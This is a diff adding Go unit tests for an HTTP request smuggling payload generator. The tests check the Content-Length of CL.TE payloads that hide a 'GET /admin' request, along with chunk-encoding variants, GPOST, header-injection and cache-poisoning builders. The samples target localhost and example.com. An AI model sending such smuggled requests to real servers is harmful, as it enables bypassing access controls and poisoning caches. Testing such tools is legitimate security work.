@@ -0,0 +1,98 @@
+package payload
+
+import (
+	"strconv"
+	"strings"
+	"testing"
+
+	"smuggler/internal/models"
+)
+
+// declaredLength splits raw into its header block and body and returns the
+// Content-Length it declares.
+func declaredLength(t *testing.T, raw string) (int, string) {
+	t.Helper()
+	head, body, ok := strings.Cut(raw, "\r\n\r\n")
+	if !ok {
+		t.Fatalf("no header terminator in %q", raw)
+	}
+	for _, line := range strings.Split(head, "\r\n")[1:] {
+		name, value, _ := strings.Cut(line, ":")
+		if strings.EqualFold(name, "Content-Length") {
+			n, err := strconv.Atoi(strings.TrimSpace(value))
+			if err != nil {
+				t.Fatalf("Content-Length %q: %v", value, err)
+			}
+			return n, body
+		}
+	}
+	t.Fatalf("no Content-Length in %q", head)
+	return 0, ""
+}
+
+func TestCLTEContentLength(t *testing.T) {
+	target := models.NewTarget("127.0.0.1", 9, false)
+	smuggled := "GET /admin HTTP/1.1\r\nHost: 127.0.0.1:9\r\n\r\n"
+
+	raw, err := NewGenerator(target).GenerateCLTEPayload(smuggled)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n, body := declaredLength(t, raw)
+
+	// The terminating chunk plus the smuggled request: 5 + 42 bytes.
+	if n != 47 {
+		t.Errorf("Content-Length = %d, want 47", n)
+	}
+	if n != len(body) {
+		t.Errorf("Content-Length = %d, body is %d bytes", n, len(body))
+	}
+	if body != "0\r\n\r\n"+smuggled {
+		t.Errorf("body = %q, want the terminating chunk followed by the smuggled request", body)
+	}
+}
+
+func TestCLTEContentLengthChunkVariants(t *testing.T) {
+	target := models.NewTarget("example.com", 80, false)
+	smuggled := "GET /admin HTTP/1.1\r\nHost: example.com\r\n\r\n"
+
+	variants := append(append(append([]ChunkVariant(nil), ChunkVariants...), ChunkExtensions...), ChunkTrailers...)
+	for _, v := range variants {
+		t.Run(v.Name, func(t *testing.T) {
+			raw, err := NewGenerator(target).SetChunkConfig(v.Config).GenerateCLTEPayload(smuggled)
+			if err != nil {
+				t.Fatal(err)
+			}
+			n, body := declaredLength(t, raw)
+			if n != len(body) {
+				t.Errorf("Content-Length = %d, body is %d bytes", n, len(body))
+			}
+			if want := v.Config.Body() + smuggled; body != want {
+				t.Errorf("body = %q, want %q", body, want)
+			}
+		})
+	}
+}
+
+func TestAttackPayloadContentLength(t *testing.T) {
+	target := models.NewTarget("example.com", 443, true)
+	tests := []struct {
+		name string
+		raw  string
+	}{
+		{"GPOST", CL_TE_GPOST_ATTACK(target)},
+		{"header injection", CL_TE_HEADER_INJECTION(target, "X-Injected", "canary")},
+		{"poison", HTTP1_CL_TE_Poison(target, "GET /404 HTTP/1.1\r\nX: ")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			n, body := declaredLength(t, tt.raw)
+			if n != len(body) {
+				t.Errorf("Content-Length = %d, body is %d bytes", n, len(body))
+			}
+			if !strings.HasPrefix(body, "0\r\n\r\n") {
+				t.Errorf("body %q does not start with the terminating chunk", body)
+			}
+		})
+	}
+}